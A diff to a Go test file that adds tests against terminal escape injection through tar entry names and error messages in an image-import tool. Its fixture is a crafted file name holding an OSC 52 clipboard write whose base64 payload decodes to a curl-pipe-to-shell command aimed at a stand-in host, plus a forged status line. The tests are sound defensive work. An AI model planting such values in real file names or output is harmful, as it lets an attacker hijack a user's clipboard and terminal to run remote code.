@@ -3,6 +3,7 @@ package cli
 import (
 	"archive/tar"
 	"bufio"
+	"errors"
 	"fmt"
 	"io"
 	"os"
@@ -215,5 +216,65 @@ func TestAttackImportFillsNoStore(t *testing.T) {
 	smallStore(t, h)
 	for _, from := range []string{image, small} {
 		importRefusedForSpace(t, h, from)
+	}
+}
+
+// forged is a name an image or a session chose: an OSC 52 clipboard
+// write, then a line of incarnate's own.
+const forged = "evil\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\nincarnate: imported base ok"
+
+// onlyVisible fails when out holds a control other than its newlines,
+// or a line that forged set on its own.
+func onlyVisible(t *testing.T, what, out string) {
+	t.Helper()
+	if strings.ContainsAny(out, "\x1b\a\r") {
+		t.Errorf("%s reached the terminal with controls: %q", what, out)
+	}
+	for _, l := range strings.Split(out, "\n") {
+		if strings.HasPrefix(l, "incarnate: imported base ok") {
+			t.Errorf("%s forged a line of its own: %q", what, out)
+		}
+	}
+}
+
+// Import's notes (what it skipped) printed tar entry names raw, and an
+// error's text kept the newlines a name held: an image could write the
+// clipboard and forge lines on the user's terminal.
+func TestAttackImportNotesEscaped(t *testing.T) {
+	h := newHarness(t, rootUser)
+	tarball := filepath.Join(h.dir, "notes.tar.zst")
+	writeTar(t, tarball, func(tw *tar.Writer) error {
+		for _, hdr := range []*tar.Header{
+			{Name: "etc/", Mode: 0o755, Typeflag: tar.TypeDir},
+			{Name: "etc/" + forged, Mode: 0o644, Typeflag: 'Z'}, // a type import skips
+		} {
+			if err := tw.WriteHeader(hdr); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	_, errOut, status := h.run("base", "import", "notes", tarball)
+	if status != 0 || !strings.Contains(errOut, "skipped") {
+		t.Fatalf("import of a tarball with an entry of an unknown type: exit %d, %q; want a note of what it skipped", status, errOut)
+	}
+	onlyVisible(t, "a skipped entry's name", errOut)
+}
+
+// report writes an error as one line, whatever the names inside it;
+// the errors of errors.Join stay one to a line.
+func TestReportForgesNoLine(t *testing.T) {
+	for _, err := range []error{
+		&os.PathError{Op: "open", Path: "/upper/" + forged, Err: unix.ENOENT},
+		fmt.Errorf("session s: %w", &os.PathError{Op: "lstat", Path: forged, Err: unix.EACCES}),
+		errors.Join(errors.New("first"), &os.PathError{Op: "remove", Path: forged, Err: unix.EBUSY}),
+	} {
+		var out strings.Builder
+		report(&out, err)
+		lines := strings.Count(out.String(), "\n")
+		if want := strings.Count(err.Error(), "\n") - strings.Count(err.Error(), forged)*strings.Count(forged, "\n"); lines != want+1 {
+			t.Errorf("report of %q: %d lines, want %d:\n%s", err, lines, want+1, out.String())
+		}
+		onlyVisible(t, "a name in an error", out.String())
 	}
 }
